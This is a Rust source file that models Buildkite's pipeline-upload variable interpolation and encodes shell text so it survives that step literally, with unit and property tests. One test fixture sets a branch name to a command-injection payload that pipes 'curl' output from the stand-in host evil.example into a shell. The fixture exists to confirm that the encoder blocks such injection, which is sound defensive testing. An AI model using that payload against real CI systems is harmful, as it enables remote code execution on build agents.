//! Buildkite's upload-time interpolation, modelled, and the encoders that keep cdl's text
//! literal through it.
//!
//! `buildkite-agent pipeline upload` parses the YAML and then runs every string of the
//! pipeline, keys and values alike, through `interpolate.Interpolate` (buildkite/go-pipeline,
//! `interpolate.go`: `interpolateAny` walks every string, `interpolateMap` keys and values;
//! `step_command.go`: a command step's command, label, key, env, matrix, secrets and every other
//! field, `if` and `agents` among them). A matrix step's `{{matrix.x}}` tokens are replaced
//! later, at job time, in the command, the label and the env values only.
//! The grammar is buildkite/interpolate's `parser.go`:
//!
//! ```text
//! EscapedBackslash = "\\"            (kept as the two characters `\\`)
//! EscapedDollar    = "\$" | "$$"     (one `$`)
//! "$("                               (kept: a shell's command substitution)
//! Expansion        = "$" ( Identifier | "{" Identifier [ Operation ] "}" )
//! ```
//!
//! checked left to right in that order at every position, so `\$$HOME` reads as `\$` (a `$`)
//! and then `$HOME`, expanded: doubling `$` alone does not make text literal when an odd run
//! of backslashes comes before it. A `$` that is the last character is kept; a `$` followed by
//! anything else (`$1`, `$_`, `$ `) is an upload error ("Expected identifier to start with a
//! letter").

#[cfg(test)]
use std::collections::HashMap;

/// What the upload makes of `text`, with `env` the variables it knows (a model of
/// buildkite/interpolate's `Interpolate`, for the subset of operations cdl must defeat:
/// `$NAME`, `${NAME}`, `${NAME:-word}`, `${NAME-word}`, `${NAME:?word}`, `${NAME:offset}`,
/// `${NAME#word}`…). `Err` when the upload would fail.
#[cfg(test)]
pub fn evaluate(text: &str, env: &HashMap<String, String>) -> Result<String, String> {
    let chars: Vec<char> = text.chars().collect();
    let mut at = 0;
    let out = expression(&chars, &mut at, None, env)?;
    Ok(out)
}

#[cfg(test)]
fn expression(
    chars: &[char],
    at: &mut usize,
    stop: Option<char>,
    env: &HashMap<String, String>,
) -> Result<String, String> {
    let mut out = String::new();
    while *at < chars.len() && Some(chars[*at]) != stop {
        let next = chars.get(*at + 1).copied();
        match (chars[*at], next) {
            ('\\', Some('\\')) => {
                out.push_str("\\\\");
                *at += 2;
            }
            ('\\', Some('$')) | ('$', Some('$')) => {
                out.push('$');
                *at += 2;
            }
            ('$', Some('(')) => {
                out.push_str("$(");
                *at += 2;
            }
            ('$', Some(_)) => {
                *at += 1;
                out.push_str(&expansion(chars, at, env)?);
            }
            (c, _) => {
                out.push(c);
                *at += 1;
            }
        }
    }
    Ok(out)
}

#[cfg(test)]
fn expansion(
    chars: &[char],
    at: &mut usize,
    env: &HashMap<String, String>,
) -> Result<String, String> {
    let braced = chars.get(*at) == Some(&'{');
    if braced {
        *at += 1;
    }
    let name = identifier(chars, at)?;
    let value = env.get(&name);
    if !braced {
        return Ok(value.cloned().unwrap_or_default());
    }
    let operator: String = match chars.get(*at) {
        Some('}') => {
            *at += 1;
            return Ok(value.cloned().unwrap_or_default());
        }
        Some(':') if chars.get(*at + 1) == Some(&'-') => ":-".into(),
        Some(c @ ('%' | '#')) if chars.get(*at + 1) == Some(c) => format!("{c}{c}"),
        Some(c @ (':' | '%' | '#' | '?' | '-')) => c.to_string(),
        other => return Err(format!("expected an operator, got {other:?}")),
    };
    *at += operator.chars().count();
    let result = match operator.as_str() {
        ":-" | "-" | "?" => {
            let word = expression(chars, at, Some('}'), env)?;
            match (operator.as_str(), value) {
                (":-", Some(v)) if !v.is_empty() => v.clone(),
                ("-", Some(v)) => v.clone(),
                ("?", Some(v)) if !v.is_empty() => v.clone(),
                ("?", _) => return Err(format!("{name}: {word}")),
                _ => word,
            }
        }
        _ => {
            // Substring and pattern removal read raw text up to `}`; the value is the
            // variable's, changed (cdl only needs to know that it is not literal text).
            let start = *at;
            while *at < chars.len() && chars[*at] != '}' {
                *at += 1;
            }
            let raw: String = chars[start..*at].iter().collect();
            if operator == ":" && raw.split(':').any(|n| n.trim().parse::<i64>().is_err()) {
                return Err(format!("unable to parse the offset `{raw}`"));
            }
            value.cloned().unwrap_or_default()
        }
    };
    if chars.get(*at) != Some(&'}') {
        return Err("expected the expansion to end with `}`".into());
    }
    *at += 1;
    Ok(result)
}

#[cfg(test)]
fn identifier(chars: &[char], at: &mut usize) -> Result<String, String> {
    if !chars.get(*at).is_some_and(|c| c.is_alphabetic()) {
        return Err("expected an identifier to start with a letter".into());
    }
    let start = *at;
    while chars
        .get(*at)
        .is_some_and(|c| c.is_alphanumeric() || *c == '_')
    {
        *at += 1;
    }
    Ok(chars[start..*at].iter().collect())
}

/// Whether a `$` of `text` follows an odd run of backslashes: the upload would read the last
/// backslash and the `$` as one escaped `$`, and no spelling brings both through.
pub fn escaped_dollar(text: &str) -> bool {
    let mut run = 0;
    for c in text.chars() {
        match c {
            '\\' => run += 1,
            '$' if run % 2 == 1 => return true,
            _ => run = 0,
        }
    }
    false
}

/// `text` spelled so that the upload gives it back exactly: every `$` doubled. `None` when
/// [`escaped_dollar`]: the caller carries the text another way or reports it.
pub fn literal(text: &str) -> Option<String> {
    (!escaped_dollar(text)).then(|| text.replace('$', "$$"))
}

/// `text` as the upload can carry it when it cannot carry it exactly: the last backslash of
/// each odd run before a `$` left out (the `$` stays a `$`).
pub fn nearest(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut run = 0;
    for c in text.chars() {
        match c {
            '\\' => run += 1,
            '$' if run % 2 == 1 => {
                out.pop();
                run = 0;
            }
            _ => run = 0,
        }
        out.push(c);
    }
    out.replace('$', "$$")
}

/// A line of shell, spelled so that the upload gives back a line the shell reads the same:
/// every `$` doubled, and a backslash the shell sees before a `$` rewritten so that no odd run
/// of backslashes meets a `$` (inside single quotes `'\''$'` → `'\'''$'`, where the quotes
/// close and reopen around nothing; outside them `\$` → `'$'`, inside double quotes
/// `\$` → `"'$'"`, the same literal `$` for the shell).
pub fn command(line: &str) -> String {
    #[derive(PartialEq)]
    enum Quote {
        None,
        Single,
        Double,
    }
    let mut out = String::with_capacity(line.len() + 8);
    let mut quote = Quote::None;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (&quote, c) {
            (Quote::Single, '\'') => {
                quote = Quote::None;
                out.push(c);
            }
            (Quote::Single, '\\') => {
                let mut run = 1;
                while chars.peek() == Some(&'\\') {
                    chars.next();
                    run += 1;
                }
                out.push_str(&"\\".repeat(run));
                if run % 2 == 1 && chars.peek() == Some(&'$') {
                    out.push_str("''");
                }
            }
            (Quote::None, '\'') => {
                quote = Quote::Single;
                out.push(c);
            }
            (Quote::None, '"') => {
                quote = Quote::Double;
                out.push(c);
            }
            (Quote::Double, '"') => {
                quote = Quote::None;
                out.push(c);
            }
            (Quote::None | Quote::Double, '\\') => match chars.next() {
                Some('$') if quote == Quote::None => out.push_str("'$$'"),
                Some('$') => out.push_str("\"'$$'\""),
                Some(escaped) => {
                    out.push('\\');
                    out.push(escaped);
                }
                None => out.push('\\'),
            },
            (_, '$') => out.push_str("$$"),
            (_, c) => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn env() -> HashMap<String, String> {
        [
            ("HOME", "/root"),
            ("BUILDKITE_BRANCH", "x\";curl${IFS}evil.example|sh;\""),
            ("IFS", " "),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
    }

    /// The model follows buildkite/interpolate's own tests (`interpolate_test.go`).
    #[test]
    fn the_model_reads_as_buildkite_does() {
        let env = env();
        let eval = |text: &str| evaluate(text, &env);
        assert_eq!(eval("$HOME ${HOME}").unwrap(), "/root /root");
        assert_eq!(eval("${NOPE:-a $HOME}").unwrap(), "a /root");
        assert_eq!(eval("${HOME:-x}").unwrap(), "/root");
        assert_eq!(eval("$$HOME").unwrap(), "$HOME");
        assert_eq!(eval("\\$HOME").unwrap(), "$HOME");
        assert_eq!(eval("\\\\$HOME").unwrap(), "\\\\/root");
        assert_eq!(eval("\\$$HOME").unwrap(), "$/root");
        assert_eq!(eval("echo $(date) $").unwrap(), "echo $(date) $");
        assert_eq!(eval("a\\b").unwrap(), "a\\b");
        assert!(eval("$1").is_err());
        assert!(eval("${NOPE?unset}").is_err());
        assert!(eval("${NOPE:?unset}").is_err());
        assert!(eval("${HOME:1}").is_ok());
    }

    /// The finding of issue 10: `\$` before a doubled `$` let the branch name through.
    #[test]
    fn buildkite_backslash_dollar_is_not_expanded() {
        let env = env();
        let text = "sh -c \"echo building \\$BUILDKITE_BRANCH\"";
        assert_eq!(literal(text), None);
        let line = command(&format!("sh -e -c {}", crate::export::shell::quote(text)));
        let uploaded = evaluate(&line, &env).unwrap();
        assert!(!uploaded.contains("curl"), "{uploaded}");
        assert_eq!(
            evaluate(&command("echo \\$HOME \"\\$HOME\""), &env).unwrap(),
            "echo '$'HOME \"\"'$'\"HOME\""
        );
        assert_eq!(
            evaluate(&nearest("costs \\$HOME"), &env).unwrap(),
            "costs $HOME"
        );
    }

    fn hostile() -> impl Strategy<Value = String> {
        let piece = prop_oneof![
            Just("$".to_string()),
            Just("\\".to_string()),
            Just("$(".to_string()),
            Just("{{".to_string()),
            Just("$$".to_string()),
            Just("\\$".to_string()),
            Just("${".to_string()),
            Just("$HOME".to_string()),
            Just("${HOME:-x}".to_string()),
            Just("é".to_string()),
            proptest::sample::select(vec![
                '{', '}', '(', ')', '<', '>', '\'', '"', '%', '@', '#', ':', '\n', ' ', 'a', 'Z',
                '_', '-', '1',
            ])
            .prop_map(String::from),
        ];
        proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #[test]
        fn literal_text_comes_back_exactly(text in hostile()) {
            match literal(&text) {
                Some(encoded) => prop_assert_eq!(evaluate(&encoded, &env()), Ok(text)),
                None => {
                    prop_assert!(escaped_dollar(&text));
                    let nearest = evaluate(&nearest(&text), &env()).unwrap();
                    prop_assert!(!escaped_dollar(&nearest) || nearest.len() < text.len());
                }
            }
        }

        /// A command written as `sh -e -c 'text'` prints the text exactly after the upload,
        /// checked with a real shell.
        #[test]
        fn commands_reach_the_shell_exactly(text in hostile()) {
            let line = command(&format!("printf '%s' {}", crate::export::shell::quote(&text)));
            let uploaded = evaluate(&line, &env()).unwrap();
            let output = std::process::Command::new("sh").args(["-c", &uploaded]).output().unwrap();
            prop_assert_eq!(String::from_utf8_lossy(&output.stdout), text);
        }

        /// Shell outside and inside double quotes: `\$` stays a literal `$`.
        #[test]
        fn escaped_dollars_outside_single_quotes_stay_literal(name in "[A-Z]{1,6}") {
            let line = format!("printf '%s|' \\${name} \"\\${name}\" \\\\\\${name}");
            let uploaded = evaluate(&command(&line), &env()).unwrap();
            let output = std::process::Command::new("sh").args(["-c", &uploaded]).output().unwrap();
            prop_assert_eq!(
                String::from_utf8_lossy(&output.stdout),
                format!("${name}|${name}|\\${name}|")
            );
        }
    }
}
